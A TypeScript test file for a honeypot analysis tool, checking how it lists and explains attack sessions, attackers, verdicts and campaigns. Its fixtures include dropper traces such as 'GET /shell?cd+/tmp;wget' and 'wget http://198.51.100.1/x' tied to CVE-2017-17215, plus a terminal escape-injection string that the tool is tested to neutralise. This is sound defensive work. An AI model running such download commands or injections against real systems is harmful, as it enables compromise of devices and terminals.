// The verbs that show what analysis found, as whole commands: what people read, what machines read, hostile text harmless.

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, beforeEach, describe, it } from 'node:test';
import { CommandBed, now } from '../../test/support/command-bed.ts';
import { sampleCampaign, sampleInsights } from '../../test/support/sample-insights.ts';
import { sampleId, sampleSession } from '../../test/support/sample-records.ts';

const lines = (out: string): string[] => out.trimEnd().split('\n');
const objects = (out: string) => lines(out).map((line) => JSON.parse(line));

describe('what analysis found', () => {
  const bed = new CommandBed();
  beforeEach(async () => {
    await bed.reset();
    await bed.store?.apply([], {}, sampleInsights(now));
  });
  after(() => bed.close());

  it('marks sessions with the rules they matched and where they came from', async () => {
    const { out } = await bed.run('sessions');
    const [titles, ...rows] = lines(out);
    assert.match(titles, /SOURCE +FROM +DECOY .* END +MARKS +FIRST BYTES$/);
    assert.match(
      rows.find((row) => row.includes('2001:db8::7')) ?? '',
      / NL +\S+ .*shell-command-download web-shell-path +GET \/shell/,
    );
    assert.match(rows.find((row) => row.includes('dns')) ?? '', / DE .* - +\\x124/);
    const [document] = objects((await bed.run('sessions --json --source 2001:db8::7')).out);
    assert.deepEqual(document.source.geo, { country_iso_code: 'NL' });
    assert.deepEqual(document.source.as, { number: 64_500, organization: { name: 'Example Net' } });
    assert.deepEqual(document.rule.id, ['shell-command-download', 'web-shell-path']);
    assert.deepEqual(document.threat.technique.id, ['T1190', 'T1105']);
    assert.deepEqual(document.vulnerability.id, ['CVE-2017-17215']);
    assert.deepEqual(document.weir.tags, ['iot', 'dropper', 'web']);
    assert.equal(document.weir.payload.family, '3fa90c11d2e4b5a6');
    assert.equal(document.weir.facts, undefined, 'lists leave facts out');
  });

  it('selects sessions by what was found in them', async () => {
    const rows = async (line: string): Promise<string[]> =>
      objects((await bed.run(`sessions --json ${line}`)).out).map(({ source }) => source.ip);
    assert.deepEqual(await rows('--signature web-shell-path'), ['2001:db8::7']);
    assert.deepEqual(await rows('--tag dropper --country nl'), ['2001:db8::7']);
    assert.equal((await rows('--country DE')).length, 4);
    assert.deepEqual(await rows('--family 3fa90c11d2e4b5a6 --since 1h'), ['2001:db8::7']);
    assert.match((await bed.run('sessions --tag nobody')).out, /no sessions match/);
    const wrong = await bed.run('sessions --country Netherlands');
    assert.equal(wrong.code, 2);
    assert.match(wrong.err, /is not a country/);
  });

  it('shows what one session matched and held, and the verdicts it is part of', async () => {
    const id = sampleId(now - 300e6, 2);
    const { out } = await bed.run(`session ${id}`);
    assert.match(out, /^ {2}place {7}NL, AS64500 Example Net$/m);
    assert.match(out, /^ {2}CVE {9}CVE-2017-17215$/m);
    assert.match(
      out,
      /^Signatures\n {2}high {4}shell-command-download {2}Download by a shell command\n {10}url http:\/\/198\.51\.100\.1\/x$/m,
    );
    assert.match(out, /^Facts\n {2}url {11}http:\/\/198\.51\.100\.1\/x\n {2}command {7}wget http:\/\/198\.51\.100\.1\/x$/m);
    assert.match(out, /^Part of\n {2}high {4}exploitation {2}matched shell-command-download$/m);
    const stored = JSON.parse((await bed.run(`session ${id} --json`)).out);
    assert.equal(stored.verdicts[0].weir.verdict.behaviour, 'exploitation');
    assert.deepEqual(stored.session.weir.signatures[0].captures, { url: 'http://198.51.100.1/x' });
    assert.deepEqual(stored.session.weir.facts[0], { kind: 'url', value: 'http://198.51.100.1/x' });
  });

  it('lists attackers, and one on a page', async () => {
    const { out, err } = await bed.run('attackers');
    assert.match(
      lines(out)[0],
      /^SOURCE +IN +LAST SEEN +AGO +FOR +SESSIONS +PROBES +PORTS +DECOYS +BEHAVIOUR +TOOLS +SIGNATURES, NETWORK$/,
    );
    const row = lines(out).find((line) => line.startsWith('2001:db8::7')) ?? '';
    assert.match(
      row,
      /^2001:db8::7 +NL +05:01:07 +5m .* 1 +0 +1 +1 +exploitation +- +.*shell-command-download.*; AS64500 Example Net$/,
    );
    assert.match(err, /3 sources; one in full: weir attacker \S+/);
    const [newest] = objects((await bed.run('attackers --by newest --json')).out);
    assert.equal(newest.source.ip, '203.0.113.9');
    const page = (await bed.run('attacker 2001:DB8::7')).out;
    assert.match(
      page,
      /^Attacker 2001:db8::7\n {2}place {7}NL, AS64500 Example Net\n {2}first seen {2}2026-03-04 05:01:07\.000 UTC$/m,
    );
    assert.match(page, /^ {2}touched {5}1 session, 0 probes: 1 port of 1 decoy, \d+ B sent$/m);
    assert.match(
      page,
      /^Behaviour\n {2}high {4}exploitation \(certain\) {2}05:01:07 UTC for 1\.0 s, at \[2001:db8:66::4\]:80\/tcp, T1190, CVE-2017-17215\n {10}matched shell-command-download$/m,
    );
    assert.match(page, /^Ports\n +1 {2}80\/tcp +http$/m);
    assert.match(page, /^What its payloads hold\n(.*\n)? +1 +(url|command) +/m);
    assert.match(page, /^Payload families\n {2}3fa90c11d2e4b5a6 {2}HTTP GET \/shell\n +GET \/shell\?cd\+\/tmp;wget/m);
    const json = JSON.parse((await bed.run('attacker 2001:db8::7 --json')).out);
    assert.equal(json.attacker.source.geo.country_iso_code, 'NL');
    assert.equal(json.families[0].label, 'HTTP GET /shell');
    const absent = await bed.run('attacker 192.0.2.77');
    assert.equal(absent.code, 1);
    assert.match(absent.err, /nothing of 192\.0\.2\.77 is recorded \(not-found\)/);
    assert.equal((await bed.run('attacker nobody')).code, 2);
  });

  it('lists sessions that a verdict is about, and does not follow them', async () => {
    const about = objects((await bed.run('sessions --behaviour brute-force --json')).out);
    assert.ok(about.length > 0 && about.length < objects((await bed.run('sessions --json')).out).length);
    assert.deepEqual(
      [...new Set(about.map(({ source, destination }) => `${source.ip} ${destination.port}`))],
      ['203.0.113.9 22'],
    );
    assert.equal(lines((await bed.run('export jsonl --behaviour brute-force')).out).length, about.length);
    const followed = await bed.run('sessions --follow --behaviour brute-force');
    assert.equal(followed.code, 2);
    assert.match(followed.err, /behaviour: is judged over time and cannot be followed/);
    assert.match((await bed.run('sessions --behaviour evil')).err, /behaviour: 'evil' is none of port-scan, /);
  });

  it('lists verdicts with their evidence, of the kinds asked for', async () => {
    const { out } = await bed.run('verdicts');
    assert.match(lines(out)[0], /^TIME \(UTC\) +AGO +SEVERITY +BEHAVIOUR +SURE +SOURCE +IN +AT +TOOL +EVIDENCE$/);
    assert.equal(lines(out).length, 4);
    assert.match(
      out,
      /medium +port-scan +certain +198\.51\.100\.7 +- +10\.66\.3\.4 +ZMap +118 ports of 10\.66\.3\.4 in 42 s; 15 in 5 minutes are a scan \(\+1\)/,
    );
    assert.match(out, /medium +brute-force +certain +203\.0\.113\.9 +DE +port 22\/tcp/);
    const only = objects((await bed.run('verdicts --behaviour port-scan,sweep --json')).out);
    assert.deepEqual(
      only.map(({ weir }) => weir.verdict.behaviour),
      ['port-scan'],
    );
    assert.equal(only[0].event.dataset, 'weir.verdict');
    assert.deepEqual(only[0].threat.technique.id, ['T1046']);
    const wrong = await bed.run('verdicts --behaviour evil');
    assert.equal(wrong.code, 2);
    assert.match(wrong.err, /behaviour: 'evil' is none of port-scan, /);
    const exported = objects((await bed.run('export jsonl --kinds verdicts')).out);
    assert.deepEqual(
      exported.map(({ event }) => event.action),
      ['brute-force', 'port-scan', 'exploitation'],
    );
  });

  it('finds who acts as one, and says why each belongs', async () => {
    assert.match((await bed.run('campaigns')).out, /no campaigns recorded yet/);
    const { events, insights } = sampleCampaign(now - 1800e6);
    await bed.store?.apply(events, {}, insights);
    const { out, err } = await bed.run('campaigns');
    assert.match(lines(out)[0], /^CAMPAIGN +SOURCES +HITS +SINCE +LAST +CALLED +SHARED$/);
    assert.equal(lines(out).length, 2);
    assert.match(lines(out)[1], /^[0-9a-f]+ +6 +6 /);
    const id = /weir campaigns ([0-9a-f]+)/.exec(err)?.[1] ?? assert.fail(err);
    const one = (await bed.run(`campaigns ${id}`)).out;
    assert.match(one, new RegExp(`^Campaign ${id}: .*\n {2}6 sources, 6 hits\n {2}shared {2}`));
    assert.match(one, /^192\.0\.2\.10 +1 +04:36:07 +30m +\S+/m);
    const page = await bed.run('attacker 192.0.2.12');
    assert.match(page.out, new RegExp(`^Campaigns\n {2}${id} .*6 sources\n +\\S+`, 'm'));
    assert.equal(JSON.parse((await bed.run('attacker 192.0.2.12 --json')).out).campaigns[0].id, id);
    assert.equal(objects((await bed.run('campaigns --json')).out)[0].members.length, 6);
    const absent = await bed.run('campaigns 0000000000000000');
    assert.equal(absent.code, 1);
    assert.match(absent.err, /there is no campaign 0{16} in this time/);
  });

  it('says in the status what analysis did', async () => {
    bed.status = {
      health: 'good',
      analysis: {
        sessions: 1200,
        matched: 7,
        verdicts: 3,
        families: 2,
        rules: 181,
        held: 0,
        spilled: 4,
        partial: 1,
        curtailed: 2,
        forgotten: 9,
        faults: { facts: 2 },
      },
    };
    const { out } = await bed.run('status');
    assert.match(
      out,
      /^analysis +1,200 sessions looked at with 181 signatures, 7 matched, 3 verdicts, 4 read back, 1 seen in part, 2 payloads matched in part, 9 sources forgotten, facts failed 2 times$/m,
    );
  });

  it('ranks what analysis found; payloads by family, with an example', async () => {
    const payloads = (await bed.run('top payloads')).out;
    assert.match(lines(payloads)[0], /^# +PAYLOAD FAMILY +HITS +SOURCES +LIKE$/);
    assert.match(lines(payloads)[1], /^1 +3fa90c11d2e4b5a6 +1 +1 +█+ +HTTP GET \/shell: GET \/shell\?cd/);
    assert.match((await bed.run('top countries')).out, /^1 +DE +4 +1 /m);
    assert.match((await bed.run('top asns')).out, /AS64500 Example Net +1 +1 /);
    assert.match((await bed.run('top signatures')).out, /shell-command-download +1 +1 /);
    assert.match((await bed.run('top hashes')).out, /^# +PAYLOAD SHA-256/);
    const [family] = objects((await bed.run('top payloads --json')).out);
    assert.equal(family.label, 'HTTP GET /shell');
    assert.match(Buffer.from(family.example, 'base64').toString(), /^GET \/shell/);
  });

  it('never lets attacker text reach the terminal unescaped', async () => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not appear
    const colours = /\u001b\[(1|2|22|31|32|33|36|39)m/g;
    const hostile = sampleId(now - 60e6, 5);
    for (const line of [
      'sessions',
      `session ${hostile}`,
      'attackers',
      'attacker 203.0.113.9',
      'verdicts',
      'top asns',
      'top user-agents',
      'top behaviours',
    ]) {
      const { out, code } = await bed.run(line, { terminal: true });
      assert.equal(code, 0, line);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not appear
      assert.doesNotMatch(out.replaceAll(colours, ''), /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/, line);
    }
    assert.match((await bed.run('attacker 203.0.113.9')).out, /\\x1b\]0;owned/);
  });

  it('says what a report of the usual time leaves out', async () => {
    assert.doesNotMatch((await bed.run('report -o all.csv')).err, /are not in it/);
    const old = sampleSession(now - 2000 * 86_400e6, 77);
    await bed.store?.apply([{ kind: 'session', session: old }], {});
    const { code, out, err } = await bed.run('report -o usual.csv');
    assert.equal(code, 0, err);
    assert.match(out, /usual\.csv: .*, 2026-02-03 to 2026-03-05, /);
    assert.match(err, /1 session and 0 probe packets before 2026-02-03 are not in it: --from says from when on/);
    assert.doesNotMatch((await bed.run('report --from 2015-01-01 -o ten-years.csv')).err, /are not in it/);
  });

  it('keeps the end of the latest report, not of one about long ago, nor of a wrong clock', async () => {
    const memory = path.join(bed.directory, 'data', 'reports', 'last.json');
    const remembered = (): string => JSON.parse(readFileSync(memory, 'utf8')).to;
    const present = '2026-03-04T05:06:07.000000Z';
    await bed.run('report -o today.csv');
    assert.equal(remembered(), present);
    await bed.run('report --from 2026-02-01 --to 2026-02-08 -o february.csv');
    assert.equal(remembered(), present);
    writeFileSync(memory, '{"to":"2031-01-01T00:00:00Z"}');
    await bed.run('report -o again.csv');
    assert.equal(remembered(), present);
    writeFileSync(memory, '{"to":"2026-03-01T00:00:00Z"}');
    const report = JSON.parse((await bed.run('report --from 7d --json')).out);
    assert.deepEqual([report.news.because, report.news.since.slice(0, 10)], ['last-report', '2026-03-01']);
    assert.equal(remembered(), '2026-03-01T00:00:00Z', 'what is only looked at is not remembered');
  });
});
